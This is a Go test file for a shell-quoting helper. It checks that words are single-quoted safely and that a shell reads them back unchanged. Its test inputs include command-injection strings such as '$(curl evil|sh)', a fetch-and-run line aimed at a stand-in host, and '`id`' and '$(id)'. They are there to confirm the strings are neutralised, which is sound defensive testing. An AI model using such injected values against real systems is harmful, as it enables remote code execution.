package quote_test

import (
	"os/exec"
	"strings"
	"testing"

	"gatepass/pkg/quote"
)

func TestShell(t *testing.T) {
	t.Parallel()
	for word, want := range map[string]string{
		"arn:aws:iam::123456789012:role/deploy":           "arn:aws:iam::123456789012:role/deploy",
		"repo:octo-org@65/octo-repo@74:ref:refs/heads/v1": "repo:octo-org@65/octo-repo@74:ref:refs/heads/v1",
		"--project=74":                       "--project=74",
		"":                                   "''",
		"two words":                          "'two words'",
		"$(curl evil|sh)":                    "'$(curl evil|sh)'",
		"`id`":                               "'`id`'",
		"a;b&c|d>e<f":                        "'a;b&c|d>e<f'",
		"it's":                               `'it'\''s'`,
		"!!":                                 "'!!'",
		"~":                                  "'~'",
		"*":                                  "'*'",
		`\`:                                  `'\'`,
		"a\nb":                               "'a\nb'",
		"é":                                  "'é'",
		"=ls":                                "'=ls'",
		"--member=principal://x/subject/a b": "--member='principal://x/subject/a b'",
		"--member=it's":                      `--member='it'\''s'`,
		"--$(id)=x":                          "'--$(id)=x'",
		"--format=value(name)":               "--format='value(name)'",
	} {
		if got := quote.Shell(word); got != want {
			t.Errorf("%q: got %s, want %s", word, got, want)
		}
		if got := read(t, quote.Shell(word)); got != word {
			t.Errorf("%q: the shell reads %q", word, got)
		}
	}
}

func TestCommand(t *testing.T) {
	t.Parallel()
	got := quote.Command("gcloud", "iam", "service-accounts", "describe", "x y", "--format=value(name)")
	if want := "gcloud iam service-accounts describe 'x y' --format='value(name)'"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

// read has a shell read one word.
func read(t *testing.T, word string) string {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf %s/%s "+word+" end").Output()
	text, one := strings.CutSuffix(string(out), "/end")
	if err != nil || !one {
		t.Fatalf("%s: the shell printed %q, error %v", word, out, err)
	}
	return text
}

func FuzzShell(f *testing.F) {
	for _, seed := range []string{"", "main", "it's", "'", "''", "$(id)", "`id`", "\\'", "--a='b", "--a=", "=x", "#x", "a\n'b", "\xff", "--a=~"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, word string) {
		if strings.ContainsRune(word, 0) {
			t.Skip("no argument of a program can hold it")
		}
		if got := read(t, quote.Shell(word)); got != word {
			t.Errorf("%q is read as %q", word, got)
		}
	})
}
